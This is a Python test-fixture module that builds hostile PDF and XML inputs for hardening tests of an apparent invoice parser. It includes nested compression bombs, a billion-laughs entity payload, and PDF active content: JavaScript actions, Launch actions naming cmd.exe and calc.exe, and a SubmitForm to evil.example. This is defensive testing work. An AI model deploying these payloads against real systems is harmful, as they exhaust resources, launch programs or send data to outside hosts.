"""Builders of hostile inputs (XML and PDF) for the hardening and fuzz tests."""

from __future__ import annotations

import errno
import io
import os
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pypdf
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    PdfObject,
    StreamObject,
    TextStringObject,
)


def pdf_with_files(files: dict[str, bytes], *, filters: int = 1, names_tree: bool = True, af: bool = True) -> bytes:
    """A one-page PDF embedding ``files``, each stream flate-compressed ``filters`` times (a nested bomb when > 1)."""
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    names = ArrayObject()
    specs = ArrayObject()
    for name, data in files.items():
        encoded = data
        for _ in range(filters):
            encoded = zlib.compress(encoded, 9)
        stream = StreamObject()
        stream.set_data(encoded)
        stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
        stream[NameObject("/Filter")] = (
            NameObject("/FlateDecode") if filters == 1 else ArrayObject([NameObject("/FlateDecode")] * filters)
        )
        spec = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Filespec"),
                NameObject("/F"): TextStringObject(name),
                NameObject("/UF"): TextStringObject(name),
                NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(stream)}),
            }
        )
        ref = writer._add_object(spec)
        names.extend([TextStringObject(name), ref])
        specs.append(ref)
    if names_tree:
        tree = DictionaryObject({NameObject("/Names"): names})
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/EmbeddedFiles"): tree})
    else:
        # A broken name tree: the /AF array is then the only way to the invoice.
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/EmbeddedFiles"): ArrayObject()})
    if af:
        writer._root_object[NameObject("/AF")] = specs
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf(files: dict[str, bytes]) -> bytes:
    reader = pypdf.PdfReader(io.BytesIO(pdf_with_files(files)))
    writer = pypdf.PdfWriter(clone_from=reader)
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def billion_laughs(levels: int = 10) -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels)]
    return (
        f'<?xml version="1.0"?><!DOCTYPE Invoice [{"".join(entities)}]>'
        f'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&lol{levels - 1};</Invoice>'
    ).encode()


@contextmanager
def fifo_sentinel(path: Path) -> Iterator[list[float]]:
    """A named pipe at ``path`` that records every open for reading while the block runs.

    Opening a FIFO for writing without blocking succeeds only while someone has it open for reading, so a
    watcher that keeps trying sees any reader (libxml2 reads with the GIL released); it then closes its end,
    which gives the reader an empty file instead of a hang.
    """
    os.mkfifo(path)
    opened: list[float] = []
    stop = threading.Event()

    def watch() -> None:
        while not stop.is_set():
            try:
                fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError as exc:
                if exc.errno != errno.ENXIO:
                    raise
                time.sleep(0.0005)
                continue
            opened.append(time.monotonic())
            os.close(fd)

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    try:
        yield opened
    finally:
        stop.set()
        watcher.join(5)


def _action(kind: str, **entries: PdfObject) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    action.update({NameObject(f"/{k}"): v for k, v in entries.items()})
    return action


def _js(code: str = "app.alert('hi')") -> DictionaryObject:
    return _action("/JavaScript", JS=TextStringObject(code))


def _annotation(writer: pypdf.PdfWriter, **entries: PdfObject) -> None:
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
        }
    )
    annotation.update({NameObject(f"/{k}"): v for k, v in entries.items()})
    page = writer.pages[0]
    annotations = page.get("/Annots")
    annotations = annotations.get_object() if annotations is not None else ArrayObject()
    annotations.append(writer._add_object(annotation))
    page[NameObject("/Annots")] = annotations


def _open_action(writer: pypdf.PdfWriter, action: DictionaryObject) -> None:
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)


def _names_javascript(writer: pypdf.PdfWriter) -> None:
    names = writer._root_object.get("/Names")
    names = names.get_object() if names is not None else DictionaryObject()
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("hello"), writer._add_object(_js())])})
    names[NameObject("/JavaScript")] = writer._add_object(tree)
    writer._root_object[NameObject("/Names")] = names


def _form_field(writer: pypdf.PdfWriter) -> None:
    field = DictionaryObject(
        {
            NameObject("/FT"): NameObject("/Tx"),
            NameObject("/T"): TextStringObject("total"),
            NameObject("/AA"): DictionaryObject({NameObject("/K"): _js("event.value = 1")}),
        }
    )
    form = DictionaryObject({NameObject("/Fields"): ArrayObject([writer._add_object(field)])})
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(form)


def _next_chain(writer: pypdf.PdfWriter) -> None:
    first = _action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")]))
    first[NameObject("/Next")] = ArrayObject([writer._add_object(_action("/Launch", F=TextStringObject("calc.exe")))])
    _open_action(writer, first)


ACTIVE_CONTENT: dict[str, Callable[[pypdf.PdfWriter], None]] = {
    "OpenAction JavaScript": lambda w: _open_action(w, _js()),
    "Names JavaScript": _names_javascript,
    "catalog AA": lambda w: w._root_object.__setitem__(NameObject("/AA"), DictionaryObject({NameObject("/WC"): _js()})),
    "page AA": lambda w: w.pages[0].__setitem__(NameObject("/AA"), DictionaryObject({NameObject("/O"): _js()})),
    "annotation JavaScript": lambda w: _annotation(w, A=_js()),
    "annotation AA": lambda w: _annotation(w, AA=DictionaryObject({NameObject("/E"): _js()})),
    "form field AA": _form_field,
    "Launch": lambda w: _open_action(w, _action("/Launch", F=TextStringObject("cmd.exe"))),
    "SubmitForm": lambda w: _annotation(w, A=_action("/SubmitForm", F=TextStringObject("https://evil.example/"))),
    "ImportData": lambda w: _annotation(w, A=_action("/ImportData", F=TextStringObject("data.fdf"))),
    "GoToR": lambda w: _annotation(w, A=_action("/GoToR", F=TextStringObject("other.pdf"), D=NumberObject(0))),
    "GoToE external": lambda w: _annotation(
        w, A=_action("/GoToE", F=TextStringObject("other.pdf"), T=DictionaryObject())
    ),
    "javascript: URI": lambda w: _annotation(w, A=_action("/URI", URI=TextStringObject("JavaScript:app.alert(1)"))),
    "Launch after a GoTo": _next_chain,
}


def harmless_actions(writer: pypdf.PdfWriter) -> None:
    """What an ordinary PDF/A carries: an opening view, a web link, an action into an embedded file."""
    _open_action(writer, _action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])))
    _annotation(writer, A=_action("/URI", URI=TextStringObject("https://chorus-pro.gouv.fr/")))
    _annotation(writer, A=_action("/GoToE", T=DictionaryObject({NameObject("/R"): NameObject("/C")})))


def with_additions(data: bytes, add: Callable[[pypdf.PdfWriter], None]) -> bytes:
    """``data`` (a PDF: a Factur-X invoice or an attachment) rewritten by pypdf with ``add`` applied."""
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(data)))
    add(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def plain_pdf(text: str = "Bon de livraison", *, size: int | None = None) -> bytes:
    """A real one-page PDF; ``size`` pads it (with an unused stream) to exactly that many bytes."""

    def build(padding: int) -> bytes:
        writer = pypdf.PdfWriter()
        writer.add_blank_page(200, 200)
        writer.add_metadata({"/Title": text})
        if padding:
            stream = StreamObject()
            stream.set_data(b"0" * padding)
            writer._root_object[NameObject("/PieceInfo")] = writer._add_object(stream)
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    data = build(0)
    if size is None:
        return data
    padded = build(max(size - len(data) - 100, 1))
    return build(max(size - len(data) - 100, 1) + size - len(padded))
